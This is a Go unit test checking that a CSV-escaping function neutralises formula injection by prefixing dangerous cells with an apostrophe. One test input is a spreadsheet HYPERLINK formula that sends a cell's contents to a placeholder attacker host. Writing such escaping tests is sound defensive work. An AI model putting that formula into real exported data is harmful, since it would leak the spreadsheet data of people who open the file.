package domain

import "testing"

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		"+1 555 0100":        "'+1 555 0100",
		"-2+3":               "'-2+3",
		"@SUM(A1:A9)":        "'@SUM(A1:A9)",
		"\t=cmd":             "'\t=cmd",
		"\r=cmd":             "'\r=cmd",
		"Northwind IT":       "Northwind IT",
		"":                   "",
		"a=b":                "a=b",
		"ana@northwind.test": "ana@northwind.test",
	} {
		if got := CSVText(in); got != want {
			t.Errorf("CSVText(%q) = %q, want %q", in, got, want)
		}
	}
}
